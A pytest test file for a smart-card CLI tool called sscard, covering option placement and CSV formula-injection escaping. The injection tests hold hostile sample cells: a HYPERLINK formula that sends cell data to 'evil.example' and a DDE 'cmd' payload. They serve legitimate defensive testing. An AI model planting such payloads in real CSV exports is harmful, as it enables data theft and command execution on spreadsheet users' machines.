"""Options where users type them (``--json`` after the subcommand) and CSV files that
a spreadsheet cannot run as formulas."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from sscard.cli.exit_codes import ExitCode
from sscard.cli.main import cli
from sscard.csvsafe import safe_cell, safe_row
from sscard.issuance.batch import RowResult
from tests.cardkit import SAMPLE_HOLDER
from tests.operatorkit import env_in_store

SSCARD = str(Path(sys.executable).with_name("sscard"))
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'


def run(
    *args: str, input: str | None = None, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in (env or os.environ).items() if k != "SSCARD_READER"}
    return subprocess.run(
        [SSCARD, *args], capture_output=True, text=True, input=input, env=env, timeout=120
    )


def _commands(group: click.Group, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    """Every command of the tree below ``group`` (groups included), as argv paths."""
    ctx = click.Context(group)
    for name in sorted(group.list_commands(ctx)):
        cmd = group.get_command(ctx, name)
        assert cmd is not None, name
        yield (*path, name)
        if isinstance(cmd, click.Group):
            yield from _commands(cmd, (*path, name))


ALL = list(_commands(cli))


def test_the_tree_is_walked() -> None:
    assert ("read",) in ALL and ("keys", "generate") in ALL and ("issue", "batch") in ALL
    assert len(ALL) > 40


def _command(path: tuple[str, ...]) -> click.Command:
    """The command at ``path`` in the sscard tree."""
    ctx = click.Context(cli)
    cmd: click.Command = cli
    for name in path:
        assert isinstance(cmd, click.Group)
        found = cmd.get_command(ctx, name)
        assert found is not None
        cmd = found
    return cmd


@pytest.mark.parametrize("path", ALL, ids=" ".join)
def test_every_command_accepts_json_after_its_name(path: tuple[str, ...]) -> None:
    cmd = _command(path)
    assert any("--json" in p.opts for p in cmd.params), path
    result = CliRunner().invoke(cli, [*path, "--json", "--help"])
    assert result.exit_code == 0, result.output


def test_json_after_the_subcommand_sets_the_same_state_as_before(tmp_path: Path) -> None:
    missing = f"virtual:{tmp_path / 'card.img'}"
    before = run("--json", "-r", missing, "read")
    after = run("-r", missing, "read", "--json")  # the README's form
    assert before.returncode == after.returncode == ExitCode.NO_CARD, after.stderr
    assert json.loads(after.stderr)["error"] == json.loads(before.stderr)["error"] == "NoCard"
    assert after.stdout == ""


def test_json_after_apdu_gives_json_output(tmp_path: Path) -> None:
    card = tmp_path / "card.json"
    card.write_text(
        json.dumps(
            {
                "sscard_card": "scripted",
                "atr": "3B8C80015353430000000000000000014F",
                "rules": [{"command": "00A40000023F00", "response": "9000"}],
            }
        )
    )
    r = run("-r", f"virtual:{card}", "apdu", "00A40000023F00", "--json")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)[0]["sw"] == "9000"


# --- CSV injection (OWASP "CSV Injection") ------------------------------------------


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_cells_get_a_leading_quote(lead: str) -> None:
    assert safe_cell(f"{lead}1+1") == f"'{lead}1+1"


@pytest.mark.parametrize("value", ["Zhang Wei", "", "0A1B", "line 3: name: too long", 5, -1, None])
def test_other_cells_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_safe_row() -> None:
    assert safe_row({"a": HOSTILE, "b": 3, "c": "@x"}) == {"a": "'" + HOSTILE, "b": 3, "c": "'@x"}


def test_results_writer_escapes_hostile_cells(tmp_path: Path) -> None:
    from sscard.issuance.batch import ResultsWriter

    path = tmp_path / "results.csv"
    writer = ResultsWriter(path)
    writer.write(RowResult(2, None, "failed", HOSTILE, "+reader"))
    writer.write(RowResult(3, "0102030405060708", "issued", None, "virtual-0"))
    writer.close()
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert rows[0] == {
        "row": "2", "card_serial": "", "status": "failed", "error": "'" + HOSTILE,
        "reader": "'+reader",
    }  # fmt: skip
    assert rows[1]["card_serial"] == "0102030405060708" and rows[1]["reader"] == "virtual-0"


def test_batch_results_csv_with_a_hostile_holder_name(tmp_path: Path) -> None:
    """Whatever a hostile holder row makes of it, no results cell starts a formula."""
    holders = tmp_path / "holders.jsonl"
    rows = [
        {**SAMPLE_HOLDER, "name": '=HYPERLINK("http://x.cn")'},  # fits the 30-byte record
        {**SAMPLE_HOLDER, "name": "@SUM(1+1)*cmd|' /C calc'!A0", "ssn": "-110105194912310021"},
    ]
    holders.write_text("".join(json.dumps(h, ensure_ascii=False) + "\n" for h in rows))
    results = tmp_path / "results.csv"
    store = tmp_path / "s.db"
    r = run("issue", "--keystore", "dev", "--store", str(store), "batch", str(holders),
            "--virtual", "1", "--skip-invalid", "--results", str(results),
            env=env_in_store(store))  # fmt: skip
    assert results.exists(), r.stderr
    with results.open(newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert len(cells) >= 10
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def _param(path: tuple[str, ...], name: str) -> click.Parameter | None:
    return next((p for p in _command(path).params if name in p.opts), None)


def test_profile_means_one_thing_everywhere() -> None:
    with_profile = {path: p for path in ALL if (p := _param(path, "--profile")) is not None}
    assert {("issue",), ("virtual", "new"), ("keys", "generate"), ("holder", "validate")} <= set(
        with_profile
    )
    for path, param in with_profile.items():
        assert isinstance(param, click.Option), path
        assert param.metavar == "NAME|FILE", path
        assert param.help is not None and param.help.startswith("Card profile "), path
        assert param.help.endswith("or a profile file."), path
        assert "national-3" in param.help and "national-2" in param.help, path


def test_profile_accepts_a_profile_file_and_refuses_an_unknown_name(tmp_path: Path) -> None:
    from sscard.layout import load_profile

    profile = tmp_path / "my-city.json"
    profile.write_text(json.dumps({**load_profile("national-2").to_data(), "name": "my-city"}))
    card = tmp_path / "card.img"
    made = run("--json", "virtual", "new", str(card), "--profile", str(profile))
    assert made.returncode == 0, made.stderr
    info = run("--json", "-r", f"virtual:{card}", "info")
    assert info.returncode == 0, info.stderr
    assert json.loads(info.stdout)["atr"] == json.loads(made.stdout)["atr"]
    holder = tmp_path / "holder.json"
    holder.write_text(json.dumps(SAMPLE_HOLDER))
    plan = run("--json", "issue", "--dry-run", "--holder", str(holder), "--profile", str(profile))
    assert plan.returncode == 0, plan.stderr
    assert json.loads(plan.stdout)["profile"] == "my-city"
    for args in (("issue", "--dry-run"), ("virtual", "new", str(tmp_path / "x.img"))):
        bad = run(*args, "--profile", "no-such-profile")
        assert bad.returncode == ExitCode.USAGE, bad.stderr
        assert "neither a shipped card profile" in bad.stderr


def test_every_passphrase_fd_reads_the_same_way() -> None:
    helps = {path: p for path in ALL if (p := _param(path, "--passphrase-fd")) is not None}
    assert len(helps) > 10
    for path, param in helps.items():
        assert isinstance(param, click.Option) and param.metavar == "N", path
        assert param.help is not None and param.help.startswith("Read the "), path
        assert param.help.endswith("Else $" + param.help.split("$")[1].split(",")[0]
                                   + ", else a hidden prompt."), path  # fmt: skip
